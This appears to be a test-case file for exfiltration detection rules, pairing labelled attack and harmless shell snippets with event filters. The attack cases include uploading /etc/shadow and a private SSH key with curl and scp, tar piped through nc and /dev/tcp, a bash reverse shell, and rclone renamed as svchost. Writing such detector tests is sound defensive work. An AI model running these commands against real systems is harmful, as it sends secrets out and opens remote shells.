# Exfiltration: how data leaves.

#: data_exfiltration attack: socat
#: patience 8
timeout 20 socat -u TCP-LISTEN:4444,bind=203.0.113.5,reuseaddr OPEN:/dev/null &
until ss -ltn | grep -q :4444; do sleep 0.02; done
(head -c 110000000 /dev/zero; sleep 3) | socat -u - TCP:203.0.113.5:4444

#: data_exfiltration attack: curl
#: patience 8
timeout 20 socat -u 'TCP6-LISTEN:4444,bind=[2001:db8::5],reuseaddr' OPEN:/dev/null &
until ss -ltn | grep -q :4444; do sleep 0.02; done
truncate -s 110000000 /srv/archive.tgz
timeout 6 curl -s -H 'Expect:' -T /srv/archive.tgz 'http://[2001:db8::5]:4444/' >/dev/null

#: data_exfiltration harmless: less than that, and much to this host itself
#: keep event.action == "connection_closed" AND network.direction == "outbound"
timeout 20 socat -u TCP-LISTEN:4444,reuseaddr,fork OPEN:/dev/null &
until ss -ltn | grep -q :4444; do sleep 0.02; done
head -c 90000000 /dev/zero | socat -u - TCP:203.0.113.5:4444
head -c 110000000 /dev/zero | socat -u - TCP:127.0.0.1:4444
sleep 0.6

#: much_sent_in_pieces attack: a shell with socat
#: patience 8
timeout 40 socat -u TCP-LISTEN:4444,bind=203.0.113.5,reuseaddr,fork OPEN:/dev/null &
until ss -ltn | grep -q :4444; do sleep 0.02; done
for piece in $(seq 13); do head -c 90000000 /dev/zero | socat -u - TCP:203.0.113.5:4444; done

#: much_sent_in_pieces attack: curl
#: patience 8
cat > /srv/sink.py <<'END'
import socket
server = socket.create_server(("203.0.113.5", 4444))
while True:
    taken, _ = server.accept()
    left, head = 95000000, b""
    while b"\r\n\r\n" not in head:
        head += taken.recv(65536)
    left -= len(head.split(b"\r\n\r\n", 1)[1])
    while left > 0:
        got = taken.recv(1 << 20)
        if not got:
            break
        left -= len(got)
    taken.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
    taken.close()
END
timeout 40 python3 /srv/sink.py &
until ss -ltn | grep -q :4444; do sleep 0.02; done
truncate -s 95000000 /srv/piece
for piece in $(seq 12); do curl -s -m 5 -H 'Expect:' -T /srv/piece http://203.0.113.5:4444/ >/dev/null; done

#: much_sent_in_pieces harmless: some pieces to a host on the internet, and more to one of the own network
#: keep event.action == "connection_closed" AND network.direction == "outbound"
ip address add 10.1.2.3/32 dev lo
timeout 40 socat -u TCP-LISTEN:4444,reuseaddr,fork OPEN:/dev/null &
until ss -ltn | grep -q :4444; do sleep 0.02; done
for piece in $(seq 3); do head -c 90000000 /dev/zero | socat -u - TCP:203.0.113.5:4444; done
head -c 99000000 /dev/zero | socat -u - TCP:10.1.2.3:4444
sleep 0.6

#: file_uploaded_by_tool attack: curl -T
echo data > /srv/report.csv
curl -s -m 1 -T /srv/report.csv http://203.0.113.5:8000/in

#: file_uploaded_by_tool attack: curl -F
echo data > /srv/report.csv
curl -s -m 1 -F file=@/srv/report.csv http://203.0.113.5:8000/in

#: file_uploaded_by_tool attack: wget --post-file
echo data > /srv/report.csv
wget -q -T 1 -t 1 -O - --post-file=/srv/report.csv http://203.0.113.5:8000/in

#: file_uploaded_by_tool harmless: a form's fields, a download, and a file to this host itself
#: keep event.action == "exec" AND process.name in ["curl", "wget"]
echo data > /srv/report.csv
curl -s -m 1 -d user=alice@example.com http://203.0.113.5:8000/in
curl -s -m 1 -o /srv/data -H 'Accept: text/csv' http://203.0.113.5:8000/data
curl -s -m 1 -T /srv/report.csv http://127.0.0.1:8000/in
wget -q -T 1 -t 1 -O - --post-data=a=b http://203.0.113.5:8000/in

#: secret_file_uploaded attack: curl
curl -s -m 1 --data-binary @/etc/shadow http://203.0.113.5:8000/in

#: secret_file_uploaded attack: scp of a key
#: by alice
mkdir -p ~/.ssh
ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519
scp -B -o ConnectTimeout=1 ~/.ssh/id_ed25519 203.0.113.5:

#: secret_file_uploaded harmless: a public key, a login with a private one, and settings that are fetched
#: keep event.action == "exec" AND process.name == "scp"
#: by alice
mkdir -p ~/.ssh
ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519
scp -B -o ConnectTimeout=1 ~/.ssh/id_ed25519.pub 203.0.113.5:
scp -B -o ConnectTimeout=1 -i ~/.ssh/id_ed25519 /etc/hostname 203.0.113.5:
scp -B -o ConnectTimeout=1 203.0.113.5:.kube/config ~/.kube/config

#: cloud_copy_tool_run attack: a program called rclone
# None of them is in the image.
cp /bin/true /usr/bin/rclone
rclone copy /srv remote:bucket --transfers 16

#: cloud_copy_tool_run attack: a program called aws
cp /bin/true /usr/local/bin/aws
aws s3 sync /srv s3://bucket/in

#: cloud_copy_tool_run harmless: what is stored is listed, and another tool copies
#: keep event.action == "exec" AND process.name in ["rclone", "aws", "rsync"]
cp /bin/true /usr/bin/rclone
cp /bin/true /usr/local/bin/aws
rclone lsd remote:
aws s3 ls s3://bucket
rsync -a /etc/hostname /srv/

#: cloud_copy_tool_renamed attack: under the name of a service
# rclone is not in the image: what counts is what it is told.
cp /bin/true /usr/local/bin/svchost
svchost copy /srv mega:in --config /srv/r.conf --transfers 16 --ignore-existing

#: cloud_copy_tool_renamed attack: in a temporary folder
cp /bin/true /tmp/rclone
/tmp/rclone version

#: cloud_copy_tool_renamed harmless: the real one, and others that copy
#: keep event.action == "exec" AND process.name in ["rclone", "docker", "timeout"]
cp /bin/true /usr/bin/rclone
cp /bin/true /usr/local/bin/docker
timeout 5 rclone copy /srv mega:in --transfers 16
docker copy image:tag --config x

#: upload_to_paste_service attack: curl
curl -s -m 1 -T /etc/hostname https://transfer.sh/hostname

#: upload_to_paste_service attack: python
python3 -c 'import socket; socket.getaddrinfo("webhook.site", 443)'

#: upload_to_paste_service harmless: names of a like sound, and a browser
#: keep event.action == "dns_question"
dig +tries=1 +time=1 nottransfer.sh @127.0.0.1 >/dev/null
# No browser is in the image.
cp /usr/bin/python3 /usr/local/bin/firefox
firefox -c 'import socket; socket.getaddrinfo("pastebin.com", 443)'

#: chat_service_asked_by_script attack: curl
curl -s -m 1 https://api.telegram.org/bot1:x/sendMessage -d chat_id=1 -d text=x

#: chat_service_asked_by_script attack: python
python3 -c 'import socket; socket.getaddrinfo("discord.com", 443)'

#: chat_service_asked_by_script harmless: a program of one's own, and another name
#: keep event.action == "dns_question"
cp /usr/bin/dig /usr/local/bin/chat-client
chat-client +tries=1 +time=1 discord.com @127.0.0.1 >/dev/null
curl -s -m 1 https://telegram.org/

#: archive_piped_to_network attack: tar and nc
timeout 5 nc -l 203.0.113.5 4444 >/dev/null &
until ss -ltn | grep -q :4444; do sleep 0.02; done
tar cz /etc/pam.d | nc -N 203.0.113.5 4444

#: archive_piped_to_network attack: tar and socat
timeout 5 socat -u TCP-LISTEN:4444,bind=203.0.113.5 OPEN:/dev/null &
until ss -ltn | grep -q :4444; do sleep 0.02; done
tar c /etc/pam.d | socat -u - TCP:203.0.113.5:4444

#: archive_piped_to_network attack: gzip and curl
gzip -c /etc/services | curl -s -m 1 -T - http://203.0.113.5:8000/in

#: archive_piped_to_network harmless: tar between folders, and a word to nc
#: keep event.action == "exec" AND process.name in ["tar", "nc"]
mkdir /srv/copy
tar c -C /etc pam.d | tar x -C /srv/copy
sleep 3.2
echo QUIT | nc -w 1 203.0.113.5 25

#: data_written_into_connection attack: tar into a shell's connection
timeout 5 ncat -l 203.0.113.5 4444 >/dev/null &
until ss -ltn | grep -q :4444; do sleep 0.02; done
tar cz /etc/pam.d > /dev/tcp/203.0.113.5/4444

#: data_written_into_connection attack: base64 in a reverse shell
echo 'base64 /etc/passwd' | timeout 5 ncat -l 203.0.113.5 4444 >/dev/null &
until ss -ltn | grep -q :4444; do sleep 0.02; done
timeout 2 bash -c 'bash >& /dev/tcp/203.0.113.5/4444 <&1'

#: data_written_into_connection harmless: into a file, and into a socket of this host
#: keep event.action == "exec" AND process.name in ["tar", "cat"]
tar cz /etc/pam.d > /srv/pam.tgz
timeout 5 socat -u UNIX-LISTEN:/run/s OPEN:/srv/out &
until [ -S /run/s ]; do sleep 0.02; done
python3 -c '
import socket, subprocess
made = socket.socket(socket.AF_UNIX)
made.connect("/run/s")
subprocess.run(["cat", "/etc/hostname"], stdout=made)'

#: folder_served_over_http attack: php
timeout 0.5 php -S 203.0.113.5:8000 -t /srv

#: folder_served_over_http attack: busybox
timeout 0.5 busybox httpd -f -p 8001 -h /srv

#: folder_served_over_http harmless: to this host alone, and a script
#: keep event.action == "exec" AND process.name == "php"
timeout 0.5 php -S 127.0.0.1:8000 -t /srv
php -r 'echo 1;'
